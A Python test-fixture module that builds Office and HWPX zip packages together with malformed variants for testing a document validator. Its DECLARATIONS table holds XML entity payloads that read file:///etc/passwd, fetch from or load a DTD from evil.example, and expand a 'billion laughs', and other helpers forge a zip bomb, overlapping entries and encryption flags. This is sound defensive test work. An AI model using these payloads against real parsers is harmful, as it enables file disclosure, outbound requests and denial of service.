"""Zips with documents in them, made part by part, and what can be wrong with any of them."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from io import BytesIO

from openpyxl import Workbook

from tests.files.corpus import spaces

Parts = Mapping[str, bytes]
HEAD = b'<?xml version="1.0" encoding="UTF-8"?>'
RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
OFFICE = "application/vnd.openxmlformats-officedocument."
MACROS = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"


def zipped(parts: Parts, kind: int = zipfile.ZIP_DEFLATED) -> bytes:
    file = BytesIO()
    with zipfile.ZipFile(file, "w", kind) as made:
        for name, body in parts.items():
            made.writestr(name, body, zipfile.ZIP_STORED if name == "mimetype" else kind)
    return file.getvalue()


def parts_of(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(BytesIO(data)) as parts:
        return {name: parts.read(name) for name in parts.namelist()}


def workbook(rows: int = 3, change: Callable[[Workbook], None] | None = None) -> dict[str, bytes]:
    """A workbook with a head and rows below it, as its parts."""
    book = Workbook()
    sheet = book.worksheets[0]
    for number in range(rows + 1):
        sheet.append(["품명", number, f"비고 {number}"])
    if change:
        change(book)
    file = io.BytesIO()
    book.save(file)
    return parts_of(file.getvalue())


def text_document(body: bytes = b"", *links: bytes) -> dict[str, bytes]:
    """A text document with a paragraph and what stands in `body`, as its parts."""
    w = b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
    types = b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    main = (
        f'<Override PartName="/word/document.xml" ContentType="{OFFICE}wordprocessingml.document.main+xml"/>'
    )
    return {
        "[Content_Types].xml": HEAD + types + main.encode() + b"</Types>",
        "_rels/.rels": linked(link("officeDocument", "word/document.xml")),
        "word/document.xml": HEAD
        + b"<w:document %s><w:body><w:p><w:r><w:t>&#44032;</w:t></w:r></w:p>%s</w:body></w:document>"
        % (w, body),
        "word/_rels/document.xml.rels": linked(*links),
    }


def hangul_document(**more: bytes) -> dict[str, bytes]:
    """An HWPX document with a paragraph, as its parts; `__` in a name is a folder."""
    parts = {
        "mimetype": b"application/hwp+zip",
        "version.xml": HEAD + b'<v:HCFVersion xmlns:v="http://www.hancom.co.kr/hwpml/2011/version"/>',
        "Contents/content.hpf": HEAD + b'<opf:package xmlns:opf="http://www.idpf.org/2007/opf/"/>',
        "Contents/header.xml": HEAD + b'<hh:head xmlns:hh="http://www.hancom.co.kr/hwpml/2011/head"/>',
        "Contents/section0.xml": HEAD + b'<hs:sec xmlns:hs="http://www.hancom.co.kr/hwpml/2011/section"/>',
        "Preview/PrvText.txt": "가나다".encode(),
        "META-INF/container.xml": HEAD + b"<container/>",
    }
    return parts | {name.replace("__", "/"): body for name, body in more.items()}


def link(kind: str, target: str, *, outside: bool = False) -> bytes:
    mode = ' TargetMode="External"' if outside else ""
    return f'<Relationship Id="r{abs(hash(target))}" Type="{RELS}/{kind}" Target="{target}"{mode}/>'.encode()


def linked(*links: bytes) -> bytes:
    start = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    return HEAD + start + b"".join(links) + b"</Relationships>"


def declared(body: bytes, declaration: bytes, entity: bytes = b"&a;") -> bytes:
    """An XML part with a document type in front and an entity in its root."""
    bare = (
        body.replace(HEAD, b"").partition(b"?>")[2]
        if body.startswith(b"<?xml") and HEAD not in body
        else body
    )
    root = bare.replace(HEAD, b"").lstrip()
    end = root.index(b">")
    opened = root[: end - 1] + b">" + entity if root[end - 1 : end] == b"/" else root[: end + 1] + entity
    return HEAD + b"<!DOCTYPE x [" + declaration + b"]>" + opened + root[end + 1 :]


def with_declaration(
    make: Callable[[], dict[str, bytes]], part: str, declaration: bytes, entity: bytes
) -> bytes:
    """A package with a document type in one of its parts."""
    parts = make()
    return zipped(parts | {part: declared(parts[part], declaration, entity)})


LAUGHS = b'<!ENTITY l0 "lol">' + b"".join(
    b'<!ENTITY l%d "%s">' % (step, b"&l%d;" % (step - 1) * 10) for step in range(1, 10)
)
DECLARATIONS: Mapping[str, tuple[bytes, bytes]] = {
    "a file of the server": (b'<!ENTITY a SYSTEM "file:///etc/passwd">', b"&a;"),
    "an address": (b'<!ENTITY a SYSTEM "http://evil.example/">', b"&a;"),
    "a thousand million laughs": (LAUGHS, b"&l9;"),
    "one long word many times": (b'<!ENTITY a "%s">' % (b"a" * 100_000), b"&a;" * 1000),
    "a declaration from elsewhere": (b'<!ENTITY %% p SYSTEM "http://evil.example/x.dtd"> %p;', b""),
    "a harmless declaration": (b"<!ELEMENT x ANY>", b""),
}


def with_part(parts: Parts, name: str, body: bytes = b"x") -> bytes:
    return zipped({**parts, name: body})


def bomb(parts: Parts, name: str) -> bytes:
    """A package with a part of 200 MB."""
    return claiming(parts, name, spaces(200_000_000, wbits=-zlib.MAX_WBITS), 200_000_000)


def claiming(parts: Parts, name: str, packed: bytes, size: int) -> bytes:
    """A package whose last part says that it unpacks to so much."""
    before = zipped(parts)
    end = before.rindex(b"PK\x05\x06")
    count, _size, start = struct.unpack_from("<HII", before, end + 10)
    place, encoded = start, name.encode()
    common = struct.pack("<HHHHHIIIHH", 20, 0, 8, 0, 0, 0, len(packed), size, len(encoded), 0)
    local = b"PK\x03\x04" + common + encoded + packed
    entry = (
        b"PK\x01\x02" + struct.pack("<H", 20) + common + struct.pack("<HHHII", 0, 0, 0, 0, place) + encoded
    )
    directory = before[start:end] + entry
    tail = struct.pack("<HHHHIIH", 0, 0, count + 1, count + 1, len(directory), start + len(local), 0)
    return before[:start] + local + directory + b"PK\x05\x06" + tail


def overlapping(parts: Parts) -> bytes:
    """A package in whose directory a second name stands for the bytes of a part."""
    data = zipped(parts)
    end = data.rindex(b"PK\x05\x06")
    count, size, start = struct.unpack_from("<HII", data, end + 10)
    last = data.rindex(b"PK\x01\x02", start, end)
    length = struct.unpack_from("<H", data, last + 28)[0]
    copy = bytearray(data[last:end])
    copy[46 : 46 + length] = b"z" * length
    tail = struct.pack("<HHHHIIH", 0, 0, count + 1, count + 1, size + len(copy), start, 0)
    return data[:end] + bytes(copy) + b"PK\x05\x06" + tail


def changed_flag(data: bytes, bit: int) -> bytes:
    """A package whose first part claims a flag, such as that of encryption, in both places."""
    changed = bytearray(data)
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        changed[data.index(mark) + offset] |= bit
    return bytes(changed)
